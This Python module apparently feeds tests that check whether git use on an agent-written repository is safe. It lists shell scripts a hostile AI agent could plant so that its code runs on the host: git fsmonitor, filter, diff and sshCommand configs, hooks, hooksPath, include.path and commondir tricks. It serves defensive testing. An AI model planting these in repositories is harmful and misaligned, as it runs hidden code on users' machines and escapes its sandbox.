"""What a hostile agent leaves in its repository for whoever uses git there: shell scripts in its tree.

`$P` is the payload's program on the host. Each is a way that was seen to run code with plain git.
"""

from __future__ import annotations

_ATTRIBUTES = "echo '* filter=evil diff=evil' > .gitattributes; "
_HOOKS = (
    "for hook in pre-commit post-checkout post-index-change reference-transaction post-commit; do "
    'printf "#!/bin/sh\\n$P\\n" > $FOLDER/$hook; chmod +x $FOLDER/$hook; done'
)

PAYLOADS: dict[str, str] = {
    "core.fsmonitor": 'git config core.fsmonitor "$P; false"',
    "filter.clean": _ATTRIBUTES + 'git config filter.evil.clean "$P; cat"',
    "filter.smudge": _ATTRIBUTES + 'git config filter.evil.smudge "$P; cat"',
    "filter.process": _ATTRIBUTES + 'git config filter.evil.process "$P"',
    "diff.external": 'git config diff.external "$P"',
    "diff.textconv": _ATTRIBUTES + 'git config diff.evil.textconv "$P"',
    "core.sshCommand": 'git config core.sshCommand "$P"; git config remote.origin.url ssh://nowhere.invalid/x',
    "hooks": "mkdir -p .git/hooks; FOLDER=.git/hooks; " + _HOOKS,
    "core.hooksPath": "mkdir theirs; FOLDER=$PWD/theirs; git config core.hooksPath $FOLDER; " + _HOOKS,
    "config.worktree": 'git config extensions.worktreeConfig true; git config --worktree core.fsmonitor "$P; false"',
    "include.path": 'git config --file evil core.fsmonitor "$P; false"; git config include.path ../evil',
    "commondir": (
        'cp -r .git other; git config --file other/config core.fsmonitor "$P; false"; echo $PWD/other > .git/commondir'
    ),
    ".git is a file": (
        'mv .git other; git config --file other/config core.fsmonitor "$P; false"; '
        "git config --file other/config core.worktree $PWD; echo gitdir: $PWD/other > .git"
    ),
    "a nested repository": (
        "git init -q inner; echo x > inner/x; git -C inner add x; git -C inner commit -qm x; git add inner; "
        'echo changed > inner/x; git -C inner config core.fsmonitor "$P; false"'
    ),
}
"""Name of a payload to its script."""
